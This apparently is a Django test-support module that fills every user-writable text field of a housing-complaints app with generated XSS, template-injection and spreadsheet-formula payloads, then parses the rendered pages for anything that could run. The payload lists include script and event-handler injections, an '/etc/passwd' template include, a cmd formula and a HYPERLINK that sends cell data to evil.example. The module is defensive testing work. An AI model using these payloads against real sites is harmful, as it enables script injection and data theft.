"""Words that are meant to become something else: page, header, formula, request. Made here."""

import itertools
import re
from collections.abc import Iterable, Iterator
from html.parser import HTMLParser
from itertools import product
from typing import Any

from django.db import IntegrityError, models, transaction

from cases.models import StoredFile
from cases.operations.files import clean_name

ACTS = ("alert(9)", "window.__xss=9", "fetch('//evil.example')")
_OPENINGS = ("", '">', "'>", "</textarea>", "</title>", "</script>", "-->", "]]>")
_ELEMENTS = (
    "<script>{act}</script>",
    "<img src=x onerror={act}>",
    "<svg onload={act}>",
    "<svg><script>{act}</script></svg>",
    "<iframe srcdoc='<script>{act}</script>'></iframe>",
    "<a href='javascript:{act}'>click</a>",
    "<a href='JaVa\tScRiPt:{act}'>click</a>",
    "<body onload={act}>",
    "<details open ontoggle={act}>",
    "<input autofocus onfocus={act}>",
    "<math><mtext><style><img src=x onerror={act}></style></mtext></math>",
    "<object data='javascript:{act}'></object>",
    "<meta http-equiv=refresh content='0;url=javascript:{act}'>",
    "<base href='javascript:{act}//'>",
    "<form action='javascript:{act}'><button>go</button></form>",
)
_OTHERS = (
    '" onmouseover="{act}" x="',
    "' onfocus='{act}' autofocus x='",
    "` onclick={act} `",
    "javascript:{act}",
    "{{{{ {act} }}}}{{% include '/etc/passwd' %}}",
    "\u202e<script>{act}</script>",
    "\uff1cscript\uff1e{act}\uff1c/script\uff1e",
    "&lt;script&gt;{act}&lt;/script&gt;",
    "<scr<script>ipt>{act}</scr</script>ipt>",
    "<<script>{act}//<</script>",
    '=HYPERLINK("//evil.example?x="&A1,"{act}")',
    "@SUM(1+1)*cmd|' /C {act}'!A0",
    "\t=1+1;{act}",
)


def payloads() -> list[str]:
    """Return a few hundred texts that would run in a page which prints them as they are."""
    made = [
        opening + element.format(act=act)
        for act, opening, element in product(ACTS, _OPENINGS, _ELEMENTS)
    ]
    return [*made, *(each.format(act=act) for act in ACTS for each in _OTHERS)]


# Columns of text in which nobody writes words, by the reason. Every other one is written into,
# and so is a new one. What choices or a constraint of the database bind to a list are not asked.
NO_WORDS = {
    "drawn here by chance, or worked out from what was written": (
        "anchor.hash anchor.previous_hash apikey.digest apikey.prefix apisubmission.digest "
        "apisubmission.name apisubmission.reference browsersession.session_data "
        "browsersession.session_key calendarfeed.name complaint.reference "
        "consentlink.token_hash contactrestriction.code customer.code declaredinterest.code "
        "declaredinterest.name_key dispatch.about dispatch.key dispatch.mark draft.code_hash "
        "draft.key draft.source draft.token_hash eventwords.salt formfile.source "
        "heldcopy.beside heldcopy.sha256 heldrequest.code inboundmail.code "
        "inboundmail.key informationrequest.code informationrequest.token_hash "
        "landlord.logo_mark letterproposal.salt letterproposal.words_hash loggedform.key "
        "outboundmessage.key outboundmessage.message_id proposedrole.code recordedevent.hash "
        "recoverycode.digest secondfactor.sealed "
        "recordedevent.previous_hash recordedevent.words_hash remark.reference "
        "remarkletter.token_hash "
        "remarkproposal.salt remarkproposal.words_hash reportline.reference "
        "servicerequest.reference storedfile.key storedfile.sha256 "
        "submission.email_hash submission.key submission.reference submission.signs "
        "submission.source submission.text_hash submission.token_hash surveyrequest.code "
        "trackingcode.browser_hash trackingcode.code_hash trackinglink.token_hash "
        "trackingvisit.token_hash user.code webhook.code webhook.locked_secret"
    ),
    "a code of the product, of a procedure or of a list of the landlord's": (
        "alert.code alert.reminder alert.stage apikey.scopes browsersession.browser "
        "calendaredition.weekdays caseview.page "
        "category.code complaint.channel complaint.closed_as complaint.next_due "
        "complaint.next_due_binds complaint.stage contactrestriction.closed contractor.code "
        "customer.category customer.language customer.preferred_channel "
        "customer.restricted_contact deadline.anchor_event deadline.binds deadline.code "
        "deadline.period deadline.stage document.letter_format equalitycount.answer "
        "equalitycount.characteristic job.name jobslot.job jobslot.slot keptreport.areas "
        "landlord.approved_letters landlord.award_limits landlord.logo_type letter.channel "
        "letter.kind letter.letter_format letter.other_language letterdraft.act "
        "letterdraft.stage letterproposal.act letterproposal.kind letterproposal.stage "
        "lettertemplate.language lettertemplate.letter outboundmessage.kind "
        "outsidebodydetails.code presence.act procedure.code provisionanswer.provision "
        "recordedevent.facts "
        "recordedevent.stage remark.channel remarkletter.channel remarkletter.letter_format "
        "remarkletter.other_language remarkletter.purpose remarkproposal.purpose "
        "restrictionletter.channel "
        "restrictionletter.letter_format servicearea.code servicearea.path "
        "servicerequest.channel settingschange.act settingschange.key "
        "stagetransition.from_stage stagetransition.to_stage stagetransition.why "
        "storedfile.media_type translatedtext.key translatedtext.language webhook.kinds"
    ),
    "taken in one form only, which the form checks: colours, origins, a postcode": (
        "customer.postcode declaredinterest.postcode landlord.action_colour "
        "landlord.brand_colour landlord.frame_origins webhook.url"
    ),
    "the hash of a password": ("user.password"),
    "shown on no page: found by, never read": (
        "searchentry.names searchentry.notes searchentry.places searchentry.words"
    ),
}
# What of a file of terms are codes; and the form of a code, a number, a day or a period.
_NO_WORDS_WITHIN = frozenset({"reminders", "rules"})
_CODE = re.compile(r"[a-z0-9_:.\-]*|-?[0-9]+ [a-z ]+")
TEXTS = (models.CharField, models.TextField, models.JSONField)


def text_fields(table: type[models.Model]) -> list[str]:
    """Return the columns of a table that hold text which nothing binds to a list."""
    bound = {
        name.removesuffix("__in")
        for each in table._meta.constraints
        if isinstance(each, models.CheckConstraint)
        for name in _names(each.condition)
        if name.endswith("__in")
    }
    return [
        each.name
        for each in table._meta.concrete_fields
        if isinstance(each, TEXTS) and not each.choices and each.name not in bound
    ]


def _names(condition: object) -> Iterator[str]:
    if isinstance(condition, models.Q):
        for each in condition.children:
            yield from _names(each)
    elif isinstance(condition, tuple):
        yield condition[0]


def written_fields(tables: Iterable[type[models.Model]]) -> set[str]:
    """Return the columns, each as table.column, in which somebody writes."""
    found = {f"{each._meta.model_name}.{name}" for each in tables for name in text_fields(each)}
    return found - {name for names in NO_WORDS.values() for name in names.split()}


def _typed(value: Any, text: str) -> Any:
    """Return what was kept together with a payload in the place of all words."""
    if isinstance(value, dict):
        return {
            name: each if name in _NO_WORDS_WITHIN else _typed(each, text)
            for name, each in value.items()
        }
    if isinstance(value, list):
        return [_typed(each, text) for each in value]
    return text if isinstance(value, str) and not _CODE.fullmatch(value) else value


def _address(text: str, number: int) -> str:
    """Return an address for e-mail that is valid, and is a payload as far as that allows."""
    kept = "".join(sign for sign in text if sign.isascii() and sign.isprintable())
    local = kept.replace("\\", "").replace('"', '\\"')
    return f'"{local[:40]}{number}"@x.example'


# Of so many payloads one is written in one round; in as many rounds all of them are.
ROUNDS = 7


def write_everywhere(tables: Iterable[type[models.Model]], *, in_round: int = 0) -> set[str]:
    """Write another payload into every field in which somebody writes, and return the fields.

    In another of the ROUNDS a field gets another payload.
    Those that are filled in are written; of a field that nowhere is, those that may be.
    """
    texts = itertools.cycle(payloads()[in_round::ROUNDS])
    tables = list(tables)
    done: set[str] = set()
    for only_filled in (True, False):
        for table, name in _columns(tables, written_fields(tables) - done):
            for row in table._default_manager.order_by("pk"):
                value = getattr(row, name)
                if only_filled and not value:
                    continue
                if _write(row, name, value, next(texts)):
                    done.add(f"{table._meta.model_name}.{name}")
    return done


def _columns(
    tables: list[type[models.Model]], names: set[str]
) -> Iterator[tuple[type[models.Model], str]]:
    for table in tables:
        for name in text_fields(table):
            if f"{table._meta.model_name}.{name}" in names:
                yield table, name


def _write(row: models.Model, name: str, value: Any, text: str) -> bool:
    field = row._meta.get_field(name)
    new = _typed(value, text)
    if isinstance(field, models.EmailField):
        new = _address(text, row.pk)
    elif isinstance(row, StoredFile):
        new = clean_name(text)
    elif not isinstance(field, models.JSONField):
        new = text[: field.max_length]
    if new == value:
        return False
    try:
        with transaction.atomic():
            type(row)._default_manager.filter(pk=row.pk).update(**{name: new})
    except IntegrityError:
        return False
    return True


class Found(HTMLParser):
    """What of a page could run: elements, attributes and addresses that no page of ours has."""

    NEVER = frozenset({"iframe", "object", "embed", "base", "math", "applet", "marquee"})
    ADDRESSES = frozenset({"href", "src", "action", "formaction", "data", "srcdoc", "xlink:href"})

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.faults: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Look at one element."""
        given = {name: value or "" for name, value in attrs}
        if tag in self.NEVER:
            self.faults.append(f"<{tag}>")
        if tag == "meta" and "http-equiv" in given:
            self.faults.append("<meta http-equiv>")
        if tag == "script" and not given.get("src", "").startswith("/static/"):
            self.faults.append(f"<script> {given}")
        for name, value in given.items():
            plain = re.sub(r"[\x00-\x20]", "", value).lower()
            if name.startswith("on"):
                self.faults.append(f"{tag} {name}={value}")
            if name in self.ADDRESSES and plain.startswith(("javascript:", "data:", "vbscript:")):
                self.faults.append(f"{tag} {name}={value}")

    handle_startendtag = handle_starttag


def faults_of(page: str) -> list[str]:
    """Return what of a page could run."""
    found = Found()
    found.feed(page)
    found.close()
    return found.faults
